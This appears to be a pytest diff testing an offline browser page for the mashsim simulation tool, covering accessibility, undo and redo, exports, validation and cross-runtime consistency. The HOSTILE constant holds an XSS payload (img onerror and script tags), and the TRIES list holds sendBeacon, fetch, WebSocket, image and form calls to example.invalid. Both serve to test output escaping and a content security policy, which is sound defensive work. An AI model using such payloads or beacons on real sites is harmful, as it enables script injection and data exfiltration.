@@ -1,0 +1,359 @@
+"""The page in a real browser and in Node, offline: what it shows before Python is there, a what-if by keyboard, and the same answers.
+
+Slow: Python starts in the browser. The parts are fetched once (npm and pip) and kept in the cache folder of `mashsim page`.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import shutil
+import subprocess
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING
+from urllib.parse import quote
+
+import openpyxl
+import pytest
+
+from made.browser import CHROMIUM
+from made.opened_page import (
+    NEEDED,
+    PATIENCE,
+    WIDTHS,
+    Opened,
+    browser,
+    built,
+    fetched,
+    opened,
+    ready,
+    tab_to,
+    violations,
+)
+from made.page_requests import ASKED, PEOPLE, QUEUE, SHORT
+from mashsim.loading import load_text
+from mashsim.page import handle_text
+from mashsim.page.building import packages
+from mashsim.page.fetching import Fetched
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+__all__ = ["browser", "built", "fetched", "ready"]
+pytestmark = pytest.mark.slow
+HOSTILE = '<img src=x onerror="window.broken=1"><script>window.broken=1</script>'
+
+
+def test_the_first_chart_is_there_before_python(browser: Browser, built: Path) -> None:
+    begun = time.monotonic()
+    found = opened(browser, built, "#base=baseline")
+    found.page.locator("#parts .wide svg").first.wait_for(state="visible")
+    assert time.monotonic() - begun < 15
+    assert found.said("#engine").startswith("The engine is starting")
+    assert found.said("#findings").startswith("At the end ")
+    assert found.page.locator("#run").is_disabled()
+    above = "document.querySelector('.promise').compareDocumentPosition(document.querySelector('input, select')) & 4"
+    assert found.page.evaluate(above), "the promise stands above the first input"
+    assert "nothing leaves this computer" in found.said(".promise")
+    found.page.context.close()
+
+
+def test_without_webassembly_it_says_so_and_shows_what_was_worked_out(built: Path, browser: Browser) -> None:
+    arguments = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--js-flags=--jitless"]
+    other = browser.browser_type.launch(executable_path=CHROMIUM, args=arguments)
+    found = opened(other, built, "#base=baseline")
+    said = found.wait("#engine", "The engine is switched off", patience=30)
+    assert "WebAssembly" in said
+    assert "You can still read" in said
+    assert found.page.locator("#parts .wide svg").first.is_visible()
+    assert found.page.locator("#run").is_disabled()
+    other.close()
+
+
+def test_a_browser_that_is_too_old_is_told_so(built: Path, browser: Browser) -> None:
+    page = browser.new_context(offline=True).new_page()
+    page.add_init_script("delete window.DecompressionStream")
+    page.goto(built.as_uri())
+    assert page.locator("#engine").inner_text().startswith("This browser is too old for this page.")
+    page.context.close()
+
+
+def test_a_what_if_by_keyboard_only(ready: Opened) -> None:
+    ready.use(SHORT)
+    page = ready.page
+    page.evaluate("document.activeElement.blur()")
+    tab_to(page, "control-pools-managers-posts")
+    page.keyboard.press("Control+A")
+    page.keyboard.type("6")
+    tab_to(page, "run")
+    page.keyboard.press("Enter")
+    ready.wait("#progress-text", "All 2 runs are done.")
+    assert ready.said("#results-heading") == "With your changes, beside as it is"
+    assert page.evaluate("document.activeElement.id") == "run"
+    assert "pools.managers.posts=6" in page.evaluate("location.hash")
+    assert "Managers 4 posts 6 posts" in " ".join(ready.said("#parts").split())
+    assert ready.said("#command").startswith(
+        "mashsim compare own.toml --set pools.managers.posts=6 --seed 1 --replications 2"
+    )
+    bands = page.evaluate(
+        "Array.from(document.querySelectorAll('#parts .wide svg')).map(svg => svg.querySelector('title').textContent)"
+    )
+    assert any("contacts open" in band for band in bands)
+
+
+def test_people_come_by_keyboard_and_each_step_can_be_undone_and_done_again(ready: Opened) -> None:
+    ready.use(SHORT)
+    page = ready.page
+    page.evaluate("document.activeElement.blur()")
+    tab_to(page, "people-add")
+    page.keyboard.press("Enter")
+    assert page.evaluate("document.activeElement.id") == "person-0-pool"
+    page.keyboard.type("Managers")
+    tab_to(page, "person-0-posts")
+    page.keyboard.press("Control+A")
+    page.keyboard.type("2")
+    tab_to(page, "person-0-kind")
+    page.fill("#person-0-from", "2026-05-04")
+    people = "add=managers%2C2%2Cagency%2C2026-05-04%2C"
+    assert people in page.evaluate("location.hash")
+    assert page.locator("#stale").is_hidden(), "nothing was run of this file yet"
+    tab_to(page, "run")
+    page.keyboard.press("Enter")
+    ready.wait("#progress-text", "All 2 runs are done.")
+    assert "Managers – 2 more, agency workers 4 May 2026 the end" in " ".join(ready.said("#parts").split())
+    assert "changed.toml" in ready.said("#needs")
+    tab_to(page, "undo")
+    for wanted in ("2%2Cagency%2C%2C", "1%2Cagency%2C%2C"):
+        page.keyboard.press("Enter")
+        assert f"add=managers%2C{wanted}" in page.evaluate("location.hash")
+        assert ready.said("#progress-text") == "The last change is undone."
+    assert page.locator("#stale").is_visible()
+    page.keyboard.press("Enter")  # the choice of the team
+    page.keyboard.press("Enter")  # and that anybody comes
+    assert "add=" not in page.evaluate("location.hash")
+    tab_to(page, "redo")
+    for _ in range(4):
+        page.keyboard.press("Enter")
+    assert people in page.evaluate("location.hash")
+    assert page.locator("#redo").is_disabled()
+    assert page.evaluate("document.activeElement.id") == "undo"
+    assert page.locator("#stale").is_hidden()
+    page.click("#reset")
+    ready.wait("#facts", "Not run yet")
+    assert "add=" not in page.evaluate("location.hash")
+    page.click("#undo")
+    assert people in page.evaluate("location.hash")
+
+
+def test_the_workbook_opens_and_everything_that_is_folded_is_on_paper(ready: Opened) -> None:
+    ready.use(SHORT)
+    ready.page.fill("#control-pools-managers-posts", "5")
+    ready.run()
+    with ready.page.expect_download() as download:
+        ready.page.click("#save-workbook")
+    assert download.value.suggested_filename == "results.xlsx"
+    book = openpyxl.load_workbook(io.BytesIO(Path(download.value.path()).read_bytes()))
+    told = ready.said("#findings").split("\n")
+    assert [row[0].value for row in book["Answer"].iter_rows()] == told
+    folded = "document.querySelectorAll('details.part:not([open])').length"
+    ready.page.evaluate("window.addEventListener('beforeprint', () => { window.folded = " + folded + "; })")
+    assert ready.page.evaluate(folded) == 6
+    assert len(ready.page.pdf()) > 50_000
+    assert ready.page.evaluate("window.folded") == 0
+    assert ready.page.evaluate(folded) == 6
+
+
+def test_it_stops_while_it_runs_and_what_is_done_stays(ready: Opened) -> None:
+    ready.use(SHORT, runs=99)
+    ready.page.click("#run")
+    ready.wait("#progress-text", "2 of 99", "3 of 99", "4 of 99")
+    ready.page.click("#stop")
+    said = ready.wait("#progress-text", "Stopped after ")
+    done = int(said.split()[2])
+    assert 2 <= done < 99
+    assert f"simulated {done} times" in ready.said("#facts")
+    assert ready.said("#findings").split("\n")[0] in said
+    assert ready.page.locator("#run").is_enabled()
+    ready.page.fill("#runs", str(done + 1))
+    ready.page.click("#run")  # goes on where it stopped: one more run
+    ready.wait("#progress-text", f"All {done + 1} runs are done.")
+    assert f"simulated {done + 1} times" in ready.said("#facts")
+    alone = json.loads(
+        handle_text(
+            json.dumps({"do": "sum up", "text": SHORT, "name": "own.toml", "seed": 1, "replications": done + 1})
+        )
+    )
+    assert ready.said("#findings") == alone["page"]["findings"][0]
+
+
+def test_what_is_wrong_is_said_beside_the_controls(ready: Opened) -> None:
+    ready.use(SHORT)
+    ready.page.fill("#control-pools-managers-posts", "-3")
+    ready.page.click("#run")
+    assert "Managers is -3; it must be from 0 to 200." in ready.said("#faults")
+    assert ready.page.evaluate("document.activeElement.id") == "faults"
+    ready.page.fill("#control-pools-managers-posts", "4")
+    ready.page.fill("#from", "2026-05-04")
+    ready.page.fill("#to", "2026-05-01")
+    ready.page.click("#people-add")
+    ready.page.fill("#person-0-posts", "0")
+    ready.page.click("#run")
+    assert "The last day on which the changes hold is before the first." in ready.said("#faults")
+    assert "People who come, 1: how many is a number of posts above 0, up to 200." in ready.said("#faults")
+    misspelt = "own.toml, line 3: pools.managrs.posts: unknown setting; did you mean pools.managers?"
+    files = {
+        b'base = "baseline"\n[pools.managrs]\nposts = 3\n': misspelt,
+        b"base = [": "own.toml, line 1",
+        b"\xff\x00\x01": "own.toml, line 1",
+        b"#" * 5_000_001: "The file is larger than 5 MB; a scenario file is at most so large.",
+    }
+    for content, words in files.items():
+        ready.page.set_input_files("#own", {"name": "own.toml", "mimeType": "application/toml", "buffer": content})
+        ready.wait("#faults", f"There is a problem\n{words}", patience=10)
+    ready.use(
+        QUEUE.read_text(encoding="utf-8").replace("2023-12-31", "2023-01-15")
+    )  # the page lives on; a queue has none of the parts
+    ready.page.fill("#control-pools-server-posts", "2")
+    ready.run()
+    assert ready.page.locator("#faults").is_hidden()
+
+
+def test_no_hostile_text_becomes_markup(ready: Opened, browser: Browser, built: Path) -> None:
+    text = SHORT.replace("Two months", "Tw").replace("[run]", f"place = '{HOSTILE}'\nquestion = '{HOSTILE}'\n[run]")
+    ready.use(text)
+    ready.page.fill("#control-pools-managers-posts", "5")
+    ready.run()
+    assert HOSTILE in ready.said("#parts")
+    assert ready.page.locator("#results img, #results script").count() == 0
+    with ready.page.expect_download() as download:
+        ready.page.click("#save-report")
+    assert HOSTILE not in Path(download.value.path()).read_text(encoding="utf-8")
+    assert ready.page.evaluate("window.broken") is None
+    people = [
+        f"{HOSTILE},2,agency,,",
+        f"managers,2,{HOSTILE},,",
+        f"managers,{HOSTILE},agency,,",
+        f"managers,2,agency,{HOSTILE},",
+        HOSTILE,
+        "",
+    ]
+    added = "".join(f"&add={quote(each)}" for each in [*people, *["managers,1,agency,,"] * 500])
+    parts = f"{HOSTILE}=3&from={HOSTILE}&to={HOSTILE}&runs={HOSTILE}&pools.managers.policy={HOSTILE}&pools.managers.posts=7{added}"
+    other = opened(browser, built, f"#base={HOSTILE}&{parts}")
+    other.page.locator("#control-pools-managers-posts").wait_for(state="visible")
+    assert other.page.evaluate("[window.broken, document.querySelectorAll('main img').length]") == [None, 0]
+    assert other.page.input_value("#control-pools-managers-posts") == "7"
+    assert other.page.input_value("#control-pools-managers-policy") == "most_urgent_first"
+    assert other.page.locator(".person").count() == 20
+    other.page.context.close()
+
+
+TRIES = [
+    ("connect-src", "fetch('https://example.invalid/x').catch(() => 0)"),
+    ("connect-src", "navigator.sendBeacon('https://example.invalid/x', 'secret')"),
+    ("connect-src", "try { new WebSocket('wss://example.invalid/x') } catch (refusal) { 0 }"),
+    (
+        "img-src",
+        "new Promise(done => { const i = new Image(); i.onerror = () => done(0); i.src = 'https://example.invalid/x.png'; })",
+    ),
+    (
+        "form-action",
+        "{ const f = document.createElement('form'); f.action = 'https://example.invalid/'; document.body.append(f); f.submit(); }",
+    ),
+]
+
+
+def test_no_request_leaves_the_file_and_a_beacon_is_refused(ready: Opened, browser: Browser, built: Path) -> None:
+    assert [address for address in ready.asked if not address.startswith((built.as_uri(), "blob:", "data:"))] == []
+    found = opened(browser, built)
+    found.page.evaluate(
+        "document.addEventListener('securitypolicyviolation', e => window.refused.push(e.effectiveDirective))"
+    )
+    for directive, script in TRIES:
+        found.page.evaluate("window.refused = []")
+        found.page.evaluate(script)
+        found.page.wait_for_timeout(100)
+        assert found.page.evaluate("window.refused") == [directive], script
+    found.page.context.close()
+
+
+def test_no_violation_of_wcag_and_nothing_wider_than_the_screen(ready: Opened) -> None:
+    """With results, everything folded open, and a complaint."""
+    ready.use(SHORT)
+    ready.page.fill("#control-pools-managers-posts", "5")
+    ready.run()
+    ready.page.fill("#control-pools-social_workers-posts", "-1")
+    ready.page.click("#run")
+    ready.page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true; })")
+    for width in WIDTHS:
+        ready.page.set_viewport_size({"width": width, "height": 900})
+        assert violations(ready.page) == [], f"at {width} pixels"
+        assert ready.page.evaluate("document.documentElement.scrollWidth") <= width
+    ready.page.set_viewport_size({"width": WIDTHS[0], "height": 900})
+
+
+def test_the_address_holds_the_changes_and_the_scenario_can_be_taken_away(
+    browser: Browser, built: Path, ready: Opened
+) -> None:
+    settings = "pools.managers.posts=5.5&pools.managers.policy=due_soonest&opening_backlog.0.contacts=60"
+    people = "add=social_workers%2C2%2Cpermanent%2C2026-06-01%2C2026-08-31&add=managers%2C0.5%2Cagency%2C%2C"
+    rest = "from=2026-06-01&to=2026-12-31&seed=4&runs=7"
+    found = opened(browser, built, f"#base=baseline&{settings}&{people}&{rest}")
+    found.page.locator("#control-pools-managers-posts").wait_for(state="visible")
+    wanted = {
+        "control-pools-managers-posts": "5.5", "control-pools-managers-policy": "due_soonest", "control-opening_backlog-0-contacts": "60",
+        "from": "2026-06-01", "to": "2026-12-31", "runs": "7", "seed": "4", "person-0-pool": "social_workers", "person-0-posts": "2",
+        "person-0-kind": "permanent", "person-0-from": "2026-06-01", "person-0-to": "2026-08-31", "person-1-pool": "managers",
+        "person-1-from": "",
+    }  # fmt: skip
+    assert {name: found.page.input_value(f"#{name}") for name in wanted} == wanted
+    assert all(found.page.locator(f"#{name}").is_visible() for name in wanted), "what is changed is not folded away"
+    assert found.page.evaluate("location.hash") == f"#base=baseline&{settings}&{people}&{rest}"
+    found.page.fill("#control-demand-rate", "110")
+    moved = settings.replace("&pools.managers.policy", "&demand.rate=110&pools.managers.policy")
+    assert found.page.evaluate("location.hash") == f"#base=baseline&{moved}&{people}&{rest}"
+    found.page.context.close()
+    ready.use(SHORT)
+    ready.page.fill("#control-demand-rate", "110")
+    ready.run()
+    with ready.page.expect_download() as download:
+        ready.page.click("#save-scenario")
+    taken = load_text(Path(download.value.path()).read_text(encoding="utf-8"), "taken")
+    assert taken.hash == load_text(SHORT, "short", {"demand.rate": "11330 per year"}).hash
+
+
+def test_the_same_scenario_and_seed_give_the_same_bytes_in_python_in_node_and_in_the_browser(
+    ready: Opened, fetched: Fetched, tmp_path: Path
+) -> None:
+    """A what-if on the ordinary front door, and a season of the whole one, with every part there is."""
+    whole = {"scenario": "story/summer-peak", "changes": {"pools.managers.posts": 6}, "from": "2024-05-01", "seed": 11}
+    requests = [
+        {"do": "scenarios"}, {"do": "start", "scenario": "baselin"},
+        {"do": "start", **ASKED}, {"do": "replicate", "number": 1, **ASKED}, {"do": "sum up", "replications": 3, **ASKED},
+        {"do": "files", "replications": 2, **ASKED}, {"do": "summary", "replications": 3, **ASKED},
+        {"do": "sum up", "replications": 2, **ASKED, "dated": [PEOPLE]},
+        {"do": "workbook", "replications": 2, **ASKED},
+        {"do": "start", **whole}, {"do": "replicate", "number": 0, **whole},
+    ]  # fmt: skip
+    texts = [json.dumps(request) for request in requests]
+    here = [handle_text(text) for text in texts]
+    there = [ready.page.evaluate("text => window.mashsim.handle(text)", text) for text in texts]
+    assert there == here
+    node = shutil.which("node")
+    if node is None:
+        if NEEDED:
+            pytest.fail("node is not on this machine")
+        pytest.skip("node is not on this machine; the browser gave the same bytes")
+    (tmp_path / "packages.zip").write_bytes(packages(fetched.wheels))
+    (tmp_path / "requests.json").write_text(json.dumps(requests), encoding="utf-8")
+    command = [
+        node,
+        str(Path(__file__).with_name("page_in_node.mjs")),
+        str(fetched.pyodide),
+        "packages.zip",
+        "requests.json",
+    ]
+    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, encoding="utf-8", timeout=PATIENCE)
+    assert done.returncode == 0, done.stderr[:2000]
+    assert json.loads(done.stdout) == here
